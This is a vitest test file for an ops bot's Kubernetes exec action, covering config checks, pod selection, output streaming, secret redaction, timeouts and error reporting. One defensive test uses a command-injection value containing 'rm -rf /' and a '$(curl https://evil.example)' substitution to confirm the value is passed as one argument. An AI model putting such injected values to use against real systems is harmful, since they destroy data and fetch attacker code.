import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { K8sExecSchema, k8sExecKind } from '../../../src/actions/k8s-exec.js';
import type { ParamValues } from '../../../src/actions/params.js';
import type { ActionContext, OutputStream } from '../../../src/actions/types.js';
import { parseOpsConfig } from '../../../src/config/load.js';
import { UnavailableError, UserError } from '../../../src/errors.js';
import { CommandOutput } from '../../../src/exec/output.js';
import { Redactor } from '../../../src/exec/redactor.js';
import { KubernetesTargets } from '../../../src/targets/kubernetes.js';
import { testContext } from '../../support/action-context.js';
import { eventually } from '../../support/databases.js';
import { FakeKubeExec } from '../../support/fake-kube-exec.js';
import { FakeKubernetes } from '../../support/fake-kubernetes.js';

const NS = 'bentham-prod';
const SECRET = 's3cret-db-password';
const CONFIG = `
workspace: { ops_channel: C0OPS }
services:
  bentham:
    environment: production
    kubernetes: { context: prod, namespace: ${NS}, deployments: [api-gateway, executor] }
`;

/** Bentham's surface disable (runbook 001), with a short timeout. */
const DISABLE = K8sExecSchema.parse({
  kind: 'k8s.exec',
  deployment: 'executor',
  command: ['pnpm', 'admin:surface', 'disable', '{surface}'],
  params: { surface: { type: 'string' } },
  timeout: '500ms',
});

let kube: FakeKubernetes;
let exec: FakeKubeExec;
let targets: KubernetesTargets;

beforeAll(async () => {
  kube = await new FakeKubernetes().start();
  exec = new FakeKubeExec(kube);
  targets = new KubernetesTargets(parseOpsConfig(CONFIG, {}).services, kube.kubeconfig(['prod']));
});
afterAll(async () => {
  await kube?.stop();
});
beforeEach(() => {
  exec.reset();
  kube.requests.length = 0;
  kube.deployments.clear();
  kube.replicaSets.length = 0;
  kube.pods.length = 0;
  // Three pods: executor-h2-0 is not ready, executor-h2-1 and executor-h2-2 are.
  kube.addDeployment(NS, 'executor', { revisions: 2, replicas: 3 });
});

/** What a run's output stream was given: its title, its outcome, and its (redacted) lines. */
interface Recorded {
  titles: string[];
  outcomes: string[];
  output: CommandOutput;
}

function context(params: ParamValues, recorded?: Recorded): ActionContext {
  const redactor = new Redactor([SECRET]);
  const output = new CommandOutput(redactor);
  const stream: OutputStream = {
    write: (chunk) => output.write(chunk),
    lastLines: (n) => output.lastLines(n),
    close: async (outcome) => {
      recorded?.outcomes.push(outcome);
      output.finish();
      output.dispose();
    },
  };
  if (recorded) recorded.output = output;
  return testContext({
    params,
    kubernetes: () => targets.target('bentham'),
    output: (title) => {
      recorded?.titles.push(title);
      return stream;
    },
    redact: (text) => redactor.redact(text),
  });
}

function recorder(): Recorded {
  return { titles: [], outcomes: [], output: new CommandOutput(new Redactor([])) };
}

/** A pod of the fake by name, to change its state. */
function pod(name: string) {
  const found = kube.pods.find((p) => p.metadata.name === name);
  if (!found) throw new Error(`no pod ${name}`);
  return found as typeof found & { metadata: { deletionTimestamp?: string }; status: { phase: string } };
}

describe('k8s.exec config', () => {
  it('says what it runs where when ops.yml gives no summary; 5m and not idempotent unless set', () => {
    const parsed = K8sExecSchema.parse({ kind: 'k8s.exec', deployment: 'executor', command: ['pnpm', 'x'] });
    expect(parsed.summary).toBe('Run pnpm x in executor');
    expect(parsed.timeout).toBe(300_000);
    expect(k8sExecKind.idempotent(parsed)).toBe(false);
    expect(k8sExecKind.idempotent({ ...parsed, idempotent: true })).toBe(true);
    expect(k8sExecKind.target?.(DISABLE, { surface: 'openai-api' })).toBe('executor');
  });

  it('refuses a container name Kubernetes would not allow', () => {
    const parsed = K8sExecSchema.safeParse({
      kind: 'k8s.exec',
      deployment: 'executor',
      container: 'Executor_1',
      command: ['pnpm'],
    });
    expect(parsed.error?.issues[0]?.path).toEqual(['container']);
  });

  it('reports a deployment the service does not list, an undeclared param and shell syntax', () => {
    const config = K8sExecSchema.parse({
      kind: 'k8s.exec',
      deployment: 'worker',
      command: ['pnpm', 'admin:surface', '{what}', ';', 'echo'],
    });
    const problems = k8sExecKind.check(config, { databases: [], deployments: ['api-gateway', 'executor'] });
    expect(problems).toEqual([
      {
        path: ['deployment'],
        message: "is not one of the service's kubernetes deployments (api-gateway, executor)",
      },
      { path: ['command'], message: "uses {what}, which is not one of the action's params" },
      expect.objectContaining({ path: ['command', 3] }),
    ]);
    expect(k8sExecKind.check(DISABLE, { databases: [], deployments: ['executor'] })).toEqual([]);
  });
});

describe('k8s.exec against the fake API server', () => {
  it('plans with the pod it would use now (ready, first by name), its container and image, and the argv', async () => {
    const plan = await k8sExecKind.plan(DISABLE, context({ surface: 'openai-api' }));
    expect(plan.summary).toBe(
      `Run \`pnpm admin:surface disable openai-api\` in pod executor-h2-1 (container executor, image registry.example/executor:1.2) of executor in ${NS}; it is stopped after 500ms.`,
    );
    expect(plan.table?.rows).toEqual([
      [
        'executor',
        'executor-h2-1',
        'executor',
        'registry.example/executor:1.2',
        'pnpm admin:surface disable openai-api',
        'not run yet',
      ],
    ]);
    expect(exec.calls).toEqual([]);
  });

  it("redacts a secret in the argv though quoting it for display changes its text (a ' or a newline)", async () => {
    const secrets = ["pa'ss-w0rd-42", 'line-one-secret\nline-two'];
    const redactor = new Redactor(secrets);
    const ctx = testContext({
      params: { surface: secrets.join(' ') },
      kubernetes: () => targets.target('bentham'),
      redact: (text) => redactor.redact(text),
    });
    const plan = await k8sExecKind.plan(DISABLE, ctx);
    expect(plan.table?.rows[0]?.[4]).toBe("pnpm admin:surface disable '[redacted] [redacted]'");
    expect(plan.summary).toContain("`pnpm admin:surface disable '[redacted] [redacted]'`");
  });

  it('passes a param with spaces, quotes, ;, $(…) and newlines as one argv element, over the exec WebSocket', async () => {
    const nasty = `openai-api; rm -rf / $(curl https://evil.example) "double" 'single' \`tick\`\nsecond line`;
    const recorded = recorder();
    const result = await k8sExecKind.execute(DISABLE, context({ surface: nasty }, recorded));
    expect(exec.calls).toHaveLength(1);
    const call = exec.calls[0];
    expect(call?.command).toEqual(['pnpm', 'admin:surface', 'disable', nasty]);
    expect(call?.pod).toBe('executor-h2-1');
    expect(call?.container).toBe('executor');
    expect(call?.namespace).toBe(NS);
    expect(call?.protocol).toBe('v5.channel.k8s.io');
    expect(
      Object.fromEntries(['stdout', 'stderr', 'stdin', 'tty'].map((k) => [k, call?.query.get(k)])),
    ).toEqual({
      stdout: 'true',
      stderr: 'true',
      stdin: 'false',
      tty: 'false',
    });
    expect(recorded.outcomes).toEqual(['exit code 0']);
    expect(result.exitCode).toBe(0);
    expect(result.summary).toMatch(
      /^`pnpm admin:surface disable .*` exited with code 0 in executor-h2-1 \(container executor\): 1 line of output, shown in the thread\.$/s,
    );
  });

  it('streams stdout and stderr as they come into the output, each line redacted', async () => {
    exec.command = async (session) => {
      await session.stdout('disabling openai-api\n');
      await session.stderr(`warn: using postgres://bentham:${SECRET}@db/bentham\n`);
      await session.stdout('Surface openai-api disabled');
      session.exit(0);
    };
    const recorded = recorder();
    const result = await k8sExecKind.execute(DISABLE, context({ surface: 'openai-api' }, recorded));
    expect(recorded.titles).toEqual(['pnpm admin:surface disable openai-api in executor-h2-1']);
    expect(recorded.output.lastLines(10)).toEqual([
      'disabling openai-api',
      'warn: using postgres://bentham:[redacted]@db/bentham',
      'Surface openai-api disabled',
    ]);
    expect(result.summary).toContain('3 lines of output');
  });

  it('fails a non-zero exit in one sentence with its code and the last 10 lines, redacted', async () => {
    exec.command = async (session) => {
      for (let i = 1; i <= 14; i++) await session.stdout(`step ${i}\n`);
      await session.stderr(`error: cannot reach ${SECRET} xoxb-1234567890-abcdefghijkl\n`);
      session.exit(3);
    };
    const recorded = recorder();
    const run = k8sExecKind.execute(DISABLE, context({ surface: 'openai-api' }, recorded));
    await expect(run).rejects.toThrow(
      '`pnpm admin:surface disable openai-api` exited with code 3 in executor-h2-1 (container executor); last lines: ' +
        'step 6 ⏎ step 7 ⏎ step 8 ⏎ step 9 ⏎ step 10 ⏎ step 11 ⏎ step 12 ⏎ step 13 ⏎ step 14 ⏎ error: cannot reach [redacted] [redacted].',
    );
    await expect(run).rejects.toMatchObject({ exitCode: 3 });
    expect(recorded.outcomes).toEqual(['exit code 3']);
  });

  it('stops a command that hangs at its timeout: the session is closed and the run fails in one sentence', async () => {
    exec.command = async (session) => {
      await session.stdout('working…\n');
    };
    const recorded = recorder();
    const run = k8sExecKind.execute(DISABLE, context({ surface: 'openai-api' }, recorded));
    await expect(run).rejects.toThrow(
      new UnavailableError(
        '`pnpm admin:surface disable openai-api` did not finish within 500ms and was stopped: opsbot closed its exec session in executor-h2-1 (container executor).',
      ),
    );
    expect(recorded.outcomes).toEqual(['stopped after 500ms']);
    await eventually(() => expect(exec.calls[0]?.closedByClient).toBe(true));
  });

  it('never chooses a pod that is not ready, Terminating or not Running', async () => {
    pod('executor-h2-1').metadata.deletionTimestamp = new Date().toISOString();
    pod('executor-h2-2').status.phase = 'Pending';
    const none = k8sExecKind.execute(DISABLE, context({ surface: 'openai-api' }));
    await expect(none).rejects.toThrow(
      new UnavailableError(
        `executor has no running, ready pod in namespace ${NS} to run the command in (3 pods, none ready).`,
      ),
    );
    await expect(k8sExecKind.plan(DISABLE, context({ surface: 'openai-api' }))).rejects.toThrow(
      'executor has no running, ready pod',
    );
    expect(exec.calls).toEqual([]);

    pod('executor-h2-2').status.phase = 'Running';
    await k8sExecKind.execute(DISABLE, context({ surface: 'openai-api' }));
    expect(exec.calls.map((call) => call.pod)).toEqual(['executor-h2-2']);
  });

  it('refuses a container the pod does not have, naming the ones it has', async () => {
    const config = { ...DISABLE, container: 'admin' };
    await expect(k8sExecKind.execute(config, context({ surface: 'openai-api' }))).rejects.toThrow(
      new UserError(
        "Pod executor-h2-1 of executor has no container admin (it has executor); check the action's container in ops.yml.",
      ),
    );
    expect(exec.calls).toEqual([]);
  });

  it('says so when Kubernetes refuses the exec, cannot run the command, or the session breaks', async () => {
    exec.refuse = 403;
    const recorded = recorder();
    await expect(k8sExecKind.execute(DISABLE, context({ surface: 'openai-api' }, recorded))).rejects.toThrow(
      `Kubernetes did not open an exec session in pod executor-h2-1 in namespace ${NS} (context prod): Unexpected server response: 403 (opsbot may need the pods/exec permission in this namespace).`,
    );
    expect(recorded.outcomes).toEqual(['did not start']);

    exec.refuse = undefined;
    exec.command = (session) =>
      session.fail(
        'OCI runtime exec failed: exec failed: unable to start container process: exec: "pnpm": executable file not found in $PATH: unknown',
      );
    await expect(k8sExecKind.execute(DISABLE, context({ surface: 'openai-api' }))).rejects.toThrow(
      '`pnpm admin:surface disable openai-api` ended without an exit code in executor-h2-1 (container executor): OCI runtime exec failed',
    );

    exec.command = async (session) => {
      await session.stdout('half');
      session.hangUp();
    };
    await expect(k8sExecKind.execute(DISABLE, context({ surface: 'openai-api' }))).rejects.toThrow(
      '`pnpm admin:surface disable openai-api` ended without an exit code in executor-h2-1 (container executor): the exec session closed before the command reported an exit code.',
    );
  });
});
